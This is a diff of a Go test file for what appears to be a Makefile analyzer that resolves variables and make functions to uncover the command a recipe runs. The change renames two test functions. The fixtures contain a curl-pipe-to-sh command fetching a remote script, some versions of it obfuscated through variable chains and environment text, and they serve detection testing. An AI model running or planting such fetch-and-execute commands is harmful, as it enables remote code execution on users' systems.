@@ -10,7 +10,7 @@ import (
 // wanted is the command that every file of these tests comes to.
 const wanted = "curl -fsS http://get.example.com/s.sh | sh"
 
-func TestWhatMakeRunsIsWorkedOut(t *testing.T) {
+func TestMakeRecipesAreEvaluated(t *testing.T) {
 	for name, src := range map[string]string{
 		"a variable":                          "A = curl\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
 		"twelve variables":                    chain(12) + "all:\n\t$(A0) -fsS http://get.example.com/s.sh | sh\n",
@@ -98,7 +98,7 @@ func TestMakeHandsVariablesToTheShell(t *testing.T) {
 	}
 }
 
-func TestWhatMakeCannotWorkOutIsMarked(t *testing.T) {
+func TestMakeTextsThatCannotBeEvaluatedAreMarked(t *testing.T) {
 	for name, src := range map[string]string{
 		"a text of the environment":    "all:\n\t$(subst x,,$(FROM)) -fsS http://a | sh\n",
 		"a pattern of the environment": "all:\n\t$(patsubst %x,c%,$(FROM)rl) -fsS http://a | sh\n",
